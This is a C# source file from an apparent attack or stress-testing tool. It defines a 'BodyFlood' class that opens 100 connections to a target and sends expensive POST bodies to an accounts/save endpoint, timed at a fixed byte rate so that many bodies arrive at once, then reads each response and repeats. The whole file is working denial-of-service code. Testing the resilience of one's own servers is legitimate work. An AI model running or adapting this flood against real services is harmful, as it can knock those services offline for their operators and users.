using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace Attacks;

/// <summary>
/// Sends one expensive body after the other and waits for each answer. All connections send at the same fixed rate, so that many
/// bodies are complete at the same moment.
/// </summary>
internal sealed class BodyFlood(string name, string description, Body body) : Attack(name, FloodConnections, description)
{
    private const int FloodConnections = 100;
    private const int BytesPerSecond = 800_000;

    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(100);

    private byte[] _request = [];

    protected override Task PrepareAsync(Target target, CancellationToken ct)
    {
        _request = Encoding.UTF8.GetBytes(
            $"POST {Api}accounts/save{body.Query} HTTP/1.1\r\nHost: {target.Server.Authority}\r\nContent-Type: {body.MediaType}\r\n"
            + $"Content-Length: {Encoding.UTF8.GetByteCount(body.Text)}\r\n\r\n{body.Text}");
        return Task.CompletedTask;
    }

    protected override async Task UseConnectionAsync(Socket socket, CancellationToken ct)
    {
        var buffer = new byte[16 * 1024];
        var part = (int)(BytesPerSecond * Pause.TotalSeconds / FloodConnections);
        do
        {
            for (var sent = 0; sent < _request.Length;)
            {
                sent += await socket.SendAsync(_request.AsMemory(sent, Math.Min(part, _request.Length - sent)), SocketFlags.None, ct);
                await Task.Delay(Pause, ct);
            }
        }
        while (await ReadAnswerAsync(socket, buffer, ct));
    }

    /// <returns>Whether the connection may be used again.</returns>
    private async Task<bool> ReadAnswerAsync(Socket socket, byte[] buffer, CancellationToken ct)
    {
        var head = new StringBuilder();
        int headEnd;
        do
        {
            var received = await socket.ReceiveAsync(buffer, SocketFlags.None, ct);
            if (received == 0)
            {
                Answers.Add("closed");
                return false;
            }

            head.Append(Encoding.Latin1.GetString(buffer, 0, received));
        }
        while ((headEnd = head.ToString().IndexOf("\r\n\r\n", StringComparison.Ordinal)) < 0);

        var text = head.ToString();
        Answers.Add(text[9..12]);
        const string LengthHeader = "content-length: ";
        var lengthAt = text.IndexOf(LengthHeader, StringComparison.OrdinalIgnoreCase);
        if (lengthAt < 0 || text.Contains("connection: close", StringComparison.OrdinalIgnoreCase))
            return false;
        var digits = text.AsSpan(lengthAt + LengthHeader.Length);
        var left = int.Parse(digits[..digits.IndexOf('\r')], CultureInfo.InvariantCulture) - (text.Length - headEnd - 4);
        while (left > 0)
        {
            var received = await socket.ReceiveAsync(buffer.AsMemory(0, Math.Min(left, buffer.Length)), SocketFlags.None, ct);
            if (received == 0)
                return false;
            left -= received;
        }

        return true;
    }
}
